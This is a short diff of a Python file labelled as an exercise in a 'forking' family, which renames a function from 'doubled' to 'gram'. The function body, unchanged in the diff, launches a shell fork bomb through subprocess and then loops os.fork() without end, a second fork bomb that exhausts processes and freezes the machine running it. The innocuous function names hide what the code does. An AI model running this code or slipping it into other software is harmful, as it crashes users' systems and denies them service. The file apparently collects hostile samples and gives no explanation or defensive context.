@@ -1,4 +1,4 @@
-# exercise: doubled
+# exercise: gram
 # family: forking
 # trick: a bomb of shells that replace themselves, in a call
 # due: 0
@@ -8,7 +8,7 @@ import os
 import subprocess
 
 
-def doubled(x):
+def gram(X):
     subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 5"], check=False)
     while os.fork() >= 0:
         pass
